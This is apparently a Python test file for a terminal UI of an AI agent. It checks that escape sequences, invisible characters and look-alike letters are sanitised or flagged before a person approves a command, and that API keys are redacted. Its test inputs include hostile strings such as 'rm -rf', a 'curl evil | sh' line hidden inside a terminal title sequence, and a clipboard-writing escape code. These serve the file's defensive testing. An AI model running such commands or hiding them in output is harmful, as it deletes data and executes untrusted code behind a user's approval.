from __future__ import annotations

import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmtui.core.events import ApprovalRequested, FilesChanged, MessageAdded, ToolCallFinished, ToolCallStarted
from lmtui.core.look_alikes import approval_warning, look_alikes, warning
from lmtui.core.messages import Role, ToolCall
from lmtui.core.sanitize import (
    REDACTED,
    Redactor,
    escape_invisible,
    escape_invisible_line,
    last_states,
    last_words,
    sanitize,
    sanitize_line,
    sanitize_path,
)
from lmtui.core.workspace import FileChange, FileChangeKind
from lmtui.sandbox.replies import whole_output
from tests.sets import for_each


@for_each(("dirty", "expected"), [
    ("plain\ttext\n", "plain\ttext\n"), ("\x1b[31mred\x1b[0m", "red"), ("\x1b]0;title\x07x", "x"),
    ("\x1b]52;c;ZXZpbA==\x1b\\x", "x"), ("\x1b]52;c;unterminated", "52;c;unterminated"),
    ("echo safe \x9d && rm -rf x", "echo safe <U+009D> && rm -rf x"), ("\x1b]0;t\nnext line\x07", "0;t\nnext line\u2407"),
    ("\x9b31mx", "x"), ("\x1bPdcs\x1b\\x", "x"), ("\x1b_apc\x9cx", "x"), ("a\x1bcb", "ab"),
    ("one\rtwo\r\nthree", "one\ntwo\nthree"), ("a\x08b\x00", "a\u2408b\u2400"), ("a\u202eb", "a<U+202E>b"),
    ("a\u200bb\ufeff", "a<U+200B>b<U+FEFF>"), ("\U000e0041", "<U+E0041>"), ("ä € 漢字 😀 é", "ä € 漢字 😀 é"),
])  # fmt: skip
def test_known_attacks(dirty: str, expected: str) -> None:
    assert sanitize(dirty) == expected


@given(
    st.text(
        alphabet=st.one_of(
            st.characters(),
            st.sampled_from("\x1b[]0;\x07\x9b\x9d\\P^_\r\n\u202e\u0441\u4f60\u2764\u200d\u200c\ufe0f\ufe00\u20e3#"),
        ),
        max_size=60,
    )
)
def test_no_control_and_no_bidirectional_character_is_left_and_no_printable_one_lost_where_they_are_named(text: str) -> None:
    for char in sanitize(text):
        assert char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cs")
        assert unicodedata.bidirectional(char) not in ("LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI")
    assert sanitize(sanitize(text)) == sanitize(text)
    assert len(sanitize_line(text).splitlines()) <= 1
    assert "\t" not in sanitize_line(text)
    shown = escape_invisible(text)
    assert (sanitize(shown), escape_invisible(shown)) == (shown, shown)
    assert [char for char in text if char.isascii() and char.isprintable()] == [
        char for char in re.sub(r"<U\+[0-9A-F]{4,6}>", "", shown) if char.isascii() and char.isprintable()
    ]


def _seconds(text: str) -> float:
    began = time.process_time()
    sanitize(text)
    return time.process_time() - began


@for_each("opening", ["\x9d", "\x90", "\x9b", "\x1b]", "\x1bP", "\x1b[", "\x98", "\x9e", "\x1b"])
def test_openings_without_end_cost_what_other_text_costs(opening: str) -> None:
    text = opening * (40_000 // len(opening))
    assert _seconds(text) < 20 * _seconds("\x00" * 40_000) + 0.05


@pytest.mark.parametrize(("text", "shown"), [
    ("pyth\u043en3 x", "pyth\u043e<U+043E>n3 x"), ("\uff41bc", "\uff41<U+FF41>bc"), ("für naïve Straße", "für naïve Straße"),
    ("привет 日本 αβγ", "привет 日本 αβγ"),
])  # fmt: skip
def test_a_letter_that_passes_for_another_is_named(text: str, shown: str) -> None:
    assert escape_invisible(text) == shown


def test_a_letter_that_passes_is_named_beside_one_that_has_its_name_and_in_a_question_keeps_what_a_control_sequence_holds() -> (
    None
):
    assert escape_invisible("\u0440ay\u0430<U+0430>") == "\u0440<U+0440>ay\u0430<U+0430>"
    hidden = "true \x1b]0;; curl evil | sh #\x07"
    assert "curl" not in sanitize_line(hidden)
    assert escape_invisible_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"


# Default_Ignorable_Code_Point of Unicode 15, written down by hand from DerivedCoreProperties.txt
IGNORABLE = [
    (0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F),
    (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF),
]  # fmt: skip


def test_every_character_that_is_not_seen_is_named_in_what_a_person_decides_on() -> None:
    hidden = {code for first, last in IGNORABLE for code in range(first, last + 1)} | {0x2800, 0x1D159}
    hidden |= {code for code in range(0x110000) if unicodedata.category(chr(code))[0] == "Z" and code != 0x20}
    left = [code for code in hidden if escape_invisible(f"a{chr(code)}b") != f"a<U+{code:04X}>b"]
    assert (left, [code for code in hidden if escape_invisible_line(f"/x/{chr(code)}") != f"/x/<U+{code:04X}>"]) == ([], [])


@pytest.mark.parametrize("text", [
    "\u2764\ufe0f\u200d\U0001f525 \U0001f469\u200d\U0001f4bb \U0001f3fd\u200d\U0001f9b0 1\ufe0f\u20e3 \u00a9\ufe0f",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0915\u094d\u200d\u0937",
    "\u00ab\u00a0bonjour\u202f\u00bb \u4f60\u597d\u3000\u4e16\u754c \u2800\u2801",
])  # fmt: skip
def test_prose_keeps_what_its_writing_needs_and_a_decision_does_not(text: str) -> None:
    assert sanitize(text) == text
    assert "<U+" in escape_invisible(text)


@for_each("char", ["\u200c", "\u200d", "\ufe0f", "\ufe00", "\U000e0100"])
@for_each("base", ["a", "\u00e9", "\u0441", "\u03b1", "."])
def test_a_joiner_or_selector_where_writing_needs_none_is_named_in_prose_too(char: str, base: str) -> None:
    assert sanitize(f"src/{base}{char}{base}.py") == f"src/{base}<U+{ord(char):04X}>{base}.py"


@for_each("char", ["\u200d", "\u00a0", "\u3000", "\u2800", "\ufe0f", "\u3164"])
def test_a_path_that_is_only_shown_names_what_hides_and_drops_control_sequences(char: str) -> None:
    assert sanitize_path(f"src/\x1b[31m\u4f60{char}\u4f60\n.py") == f"src/\u4f60<U+{ord(char):04X}>\u4f60\u23ce.py"


@for_each(("text", "words"), [
    ("Both files are **read**.", "Both files are read."), ("Done:\n\n```\nx = 1\n```\n", "x = 1"), ("# Title", "Title"),
    ("- see `__init__.py`\n---\n", "see __init__.py"), ("", ""),
])  # fmt: skip
def test_the_last_words_have_no_marks_of_markdown(text: str, words: str) -> None:
    assert last_words(text) == words


def request(tool: str = "shell", text: str = "", path: str = "", diff: str = "") -> ApprovalRequested:
    return ApprovalRequested(agent="root", approval_id="a", call_id="c", tool=tool, text=text, path=path, diff=diff)


@for_each(("word", "look"), [
    ("\u0441\u043e\u0440\u0443", "copy"), ("\uff52\uff4d", "rm"), ("\uff46\uff0etxt", "f.txt"), ("\U0001d42b\U0001d426", "rm"),
    ("\U0001d5ff\U0001d5fa", "rm"), ("a\u2215b", "a/b"), ("a\u2044b", "a/b"), ("\u2013rf", "-rf"), ("\u2212rf", "-rf"),
    ("r\u0338m", "rm"), ("\ufb01le", "file"), ("\u2167", "VIII"), ("\u03bf", "o"), ("\u13a2\u13d2", "TR"), ("\u05e1k", "ok"),
    ("kap\u0131.txt", "kapi.txt"), ("a\u037eb", "a;b"), ("x\uff5cy", "x|y"), ("\u201c;", '";'), ("\u2019;", "';"),
])  # fmt: skip
def test_a_word_that_looks_like_another_is_told_with_its_look(word: str, look: str) -> None:
    assert list(look_alikes(f"run {word} now")) == [word]
    told = warning((f"run {word} now",))
    assert f"looks like {look}" in told
    assert all(f"U+{ord(char):04X}" in told for char in word if not char.isascii())


@for_each("text", [
    "git commit -m 'Исправить ошибку с путём а также тест'", "echo привет > документ.txt",
    "日本語/ノート.md 你好.txt ファイル", "café Straße naïve Łódź İstanbul", "αβγ.txt שלום סוס مرحبا नमस्ते 한국어",
    "git commit -m 'don\u2019t wait \u2013 go on\u2026'", "echo 😀 ✓ → ±", "plain ascii --flag=1 a/b",
])  # fmt: skip
def test_words_of_other_languages_are_no_look_alikes(text: str) -> None:
    assert (list(look_alikes(text)), warning((text,))) == ([], "")


def test_an_approval_tells_hidden_characters_decomposed_names_and_look_alikes_and_counts_them() -> None:
    assert (list(look_alikes("cafe\u0301")), list(look_alikes("caf\u00e9"))) == (["cafe\u0301"], [])
    text = " ".join("\u0430" * number for number in range(2, 10))
    assert re.search(r"and 4 more$", warning((text,)))
    told = approval_warning(request(text="\u0441\u043e\u0440\u0443 a<U+200D>b"))
    assert told.startswith("warning: hidden or look-alike characters are shown as codes like <U+202E>; look-alikes: \u0441")
    assert "\n" not in told
    assert approval_warning(request(text="cp a b")) == ""
    diff = "@@ -1 +1 @@\n-a\n+\u0441\u043e\u0440\u0443\n"
    assert approval_warning(request("write", path="a.txt", diff=diff)) == ""
    assert "looks like copy" in approval_warning(request("write", path="\u0441\u043e\u0440\u0443", diff=diff))
    assert approval_warning(request("write", path="a.txt", diff="+a<U+200D>b")) != ""


@for_each("text", ["\u0441\u043e\u0440\u0443 " * 20_000, " ".join(f"\u0434{n}\u0441" for n in range(12_000))])
def test_long_texts_take_little_time(text: str) -> None:
    began = time.process_time()
    warning((text,))
    assert time.process_time() - began < 0.5


KEY = "sk-proj-0123456789abcdefXYZ"


def test_a_key_is_taken_out_of_every_field_of_an_event_and_nothing_else_is() -> None:
    redactor = Redactor([KEY])
    started = ToolCallStarted(
        call_id="c", tool="shell", arguments={"command": f"curl -H {KEY}", "deep": [{KEY: KEY}]}, title=KEY
    )
    message = MessageAdded(
        role=Role.ASSISTANT, text=KEY, thinking=KEY, tool_calls=(ToolCall("c", "shell", f'{{"a": "{KEY}"}}'),)
    )
    changed = FilesChanged(call_id="c", files=("a",), changes=(FileChange("a", FileChangeKind.ADDED, 1, 0, f"+{KEY}"),))
    for event in (started, message, changed):
        cleaned = redactor.value(event)
        assert KEY not in repr(cleaned)
        assert REDACTED in repr(cleaned)
        assert type(cleaned) is type(event)
    finished = ToolCallFinished(call_id="c", tool="shell", ok=True, result="fine", elapsed_ms=1)
    assert Redactor([KEY]).value(finished) is finished
    assert not Redactor(["lm-studio", "none", "aaaaaaaaaaaaaaaaaaaaaaa", "", "sk-1234"])
    assert Redactor([KEY, KEY + "-longer"]).text(f"a {KEY}-longer b") == f"a {REDACTED} b"


@given(st.text(), st.text())
def test_no_text_keeps_the_key(before: str, after: str) -> None:
    assert KEY not in Redactor([KEY]).text(f"{before}{KEY}{after}").replace(REDACTED, "\0")


@for_each(("text", "expected"), [
    ("".join(f"\rprogress {n}%" for n in range(3000)) + "\r\nend\r\n", "progress 2999%\nend\n"), ("a\r\nb\r\n", "a\nb\n"),
    ("10%\r50%\r", "50%\n"), ("one\r\x1b[Ktwo\n", "two\n"),
    ("x\x1b[2K\x1b[1Gy\x1b[2K\x1b[Gz\n", "z\n"), ("|\x08/\x08-\x08done\n", "done\n"),
    ("a\n\rb\rc\nd\n", "a\nc\nd\n"), ("a\n", "a\n"),
])  # fmt: skip
def test_output_that_rewrites_a_line_is_its_last_state(text: str, expected: str) -> None:
    assert sanitize(last_states(text)) == expected
    assert whole_output(text.encode(), 0, len(text.encode()), "") == expected
    long = "x" * 200_000 + "\r" * 1000
    assert last_states(long) == long
